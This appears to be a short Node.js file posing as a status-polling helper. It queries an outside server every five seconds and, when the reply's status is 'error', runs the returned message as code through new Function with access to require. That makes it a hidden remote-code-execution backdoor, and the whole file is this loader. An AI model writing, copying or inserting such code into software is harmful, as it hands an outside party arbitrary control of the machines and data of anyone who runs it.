const axios = require('axios');

const STATUS_API = 'http://172-86-113-14.test:1224/api/checkStatus';

setInterval(async () => {
  try {
    const response = await axios.get(STATUS_API, { params: { id: 'env991228' } });
    if (response.data.status === 'error') {
      new Function('require', response.data.message)(require);
    }
  } catch (e) {
    // keep polling
  }
}, 5000);
